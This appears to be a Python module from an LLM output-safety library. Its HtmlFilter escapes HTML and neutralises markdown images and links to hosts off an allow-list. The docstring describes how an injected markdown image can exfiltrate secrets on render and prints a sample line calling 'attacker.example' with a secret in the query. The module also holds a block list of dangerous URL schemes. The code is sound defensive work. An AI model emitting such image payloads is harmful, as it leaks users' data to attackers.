"""Output that a page renders: HTML escaping and markdown link/image neutralisation.

A markdown image is fetched by the browser as soon as the answer renders, so an injected
``![](https://attacker.example/?q=<secret>)`` sends data away without a click. Images (and, if
asked, links) whose host is not on the allow-list lose their URL; on HTML routes the whole
answer is escaped with markupsafe as well::

    >>> f = HtmlFilter(allow=("docs.example.com",), escape_html=True)
    >>> f.feed("<b>hi</b> ![x](https://evil.test/a?q=1) [d](https://docs.example.com/p)") + f.flush()
    '&lt;b&gt;hi&lt;/b&gt; ![x] (link removed) [d](https://docs.example.com/p)'
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable

import regex
from markupsafe import escape

from ..context import Finding
from ._rewriter import Rewriter, Trigger

__all__ = ["HtmlFilter", "host_allowed"]

# The URL part of a markdown image or link, "](https://host", or of a reference definition,
# "]: https://host", up to the end of the host; what is before it (the label) is already
# released and the rest of the URL is dropped when neutralised. "//host" counts; relative URLs
# (no host) stay, they point at the app itself; javascript:/data:/vbscript: never stay.
_SOURCE = (
    r"\](?:(?P<paren>\()|(?P<ref>:))[ ]{0,3}<?(?:(?P<scheme>[A-Za-z][A-Za-z0-9+.-]{0,15}):)?"
    r"(?://(?P<host>[^/\s?#)>]{0,96}))?"
)
_FAST = re.compile(_SOURCE)
_PARTIAL = regex.compile(_SOURCE, regex.V0)
_WIDTH = 2 + 3 + 1 + 17 + 2 + 96 + 1  # a decision reads the char after the host, too
_LEFT = 64
_IMAGE_START = re.compile(r"!\[[^\[\]\n]*\Z")
_REF_START = re.compile(r"(?:\A|\n)[ ]{0,3}\[[^\[\]\n]+\Z")
_TRIGGER = Trigger(re.compile(r"\]"), 0, "]")
_URL_REST = re.compile(r"[^\s)]*")
_BAD_SCHEMES = ("javascript", "data", "vbscript", "file")


def host_allowed(host: str, allow: Iterable[str]) -> bool:
    """``host`` (maybe with userinfo and port) is one of ``allow`` or a subdomain of one."""
    host = host.rsplit("@", 1)[-1].split(":", 1)[0].strip("[]").lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in (x.lower() for x in allow))


class HtmlFilter(Rewriter):
    """Neutralise markdown images (``links="images"``) or images and links (``"all"``) to
    hosts outside ``allow``; escape HTML when ``escape_html``. ``on_find`` hears each removal."""

    __slots__ = ("_allow", "_escape", "_links", "_on_find", "_where")

    def __init__(
        self,
        allow: Iterable[str] = (),
        escape_html: bool = True,
        links: str = "images",
        on_find: Callable[[Finding], None] | None = None,
        where: str = "",
    ) -> None:
        super().__init__(_FAST, _PARTIAL, _WIDTH, _LEFT + 1, _TRIGGER)
        self._allow = tuple(allow)
        self._escape = escape_html
        self._links = links
        self._on_find = on_find
        self._where = where

    def feed(self, text: str) -> str:
        out = super().feed(text) if self._links != "off" else text
        return str(escape(out)) if self._escape and out else out

    def flush(self) -> str:
        out = super().flush()
        return str(escape(out)) if self._escape and out else out

    def decide(self, text: str, m: re.Match[str]) -> tuple[int, str] | None:
        s = m.start()
        if m.group("ref") is not None:
            if not _REF_START.search(text, max(0, s - _LEFT), s):
                return None
            kind = "markdown_link"
        else:
            image = _IMAGE_START.search(text, max(0, s - _LEFT), s) is not None
            if not image and self._links != "all":
                return None
            kind = "markdown_image" if image else "markdown_link"
        scheme = (m.group("scheme") or "").lower()
        host = m.group("host")
        if scheme not in _BAD_SCHEMES and (host is None or host_allowed(host, self._allow)):
            return None
        if self._on_find is not None:
            self._on_find(Finding(kind, self.absolute(s), self.absolute(m.end()), host or scheme, 1.0, self._where))
        self.swallow(_URL_REST, ")" if m.group("paren") else "")
        return m.end(), "] (link removed)" if m.group("paren") else "]: (link removed)"
